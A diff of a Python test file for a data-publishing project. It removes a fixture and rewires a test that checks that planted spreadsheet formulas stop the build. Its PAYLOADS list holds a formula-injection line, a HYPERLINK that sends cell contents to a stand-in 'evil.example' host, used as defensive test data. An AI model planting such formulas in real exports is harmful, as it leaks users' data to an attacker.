@@ -15,7 +15,7 @@ from briefs.project import Project
 
 from briefs.errors import ContentError
 from briefs.publish.data_package import refuse_formulas
-from conftest import edition, make_project, refusal, run_snakemake
+from conftest import edition, refusal, run_snakemake
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -91,15 +91,6 @@ def test_names_with_the_signs_elsewhere_are_accepted(project, capsys, name):
     assert main(["--root", str(project.root), "check"]) == 0, capsys.readouterr().err
 
 
-@pytest.fixture(scope="module")
-def good(tmp_path_factory):
-    """The fixture content built once: the last good outputs."""
-    project = make_project(tmp_path_factory.mktemp("good"))
-    result = run_snakemake(project)
-    assert result.returncode == 0, result.stderr
-    return project
-
-
 def copy_of(project, folder):
     shutil.copytree(project.root, folder, ignore=shutil.ignore_patterns(".cache"))
     return Project(folder)
@@ -127,8 +118,8 @@ def data_and_kits(files):
     ("case name", PAYLOADS[0]), ("case name in Russian", PAYLOADS[1]),
     ("region", PAYLOADS[7]), ("legal code's short name", PAYLOADS[10])])
 def test_a_planted_formula_stops_the_build_and_the_last_good_data_remain(
-        good, tmp_path, place, payload):
-    project = copy_of(good, tmp_path / "project")
+        built, tmp_path, place, payload):
+    project = copy_of(built, tmp_path / "project")
     before = published(project.root / "build")
     plant(project, place, payload)
     result = run_snakemake(project)
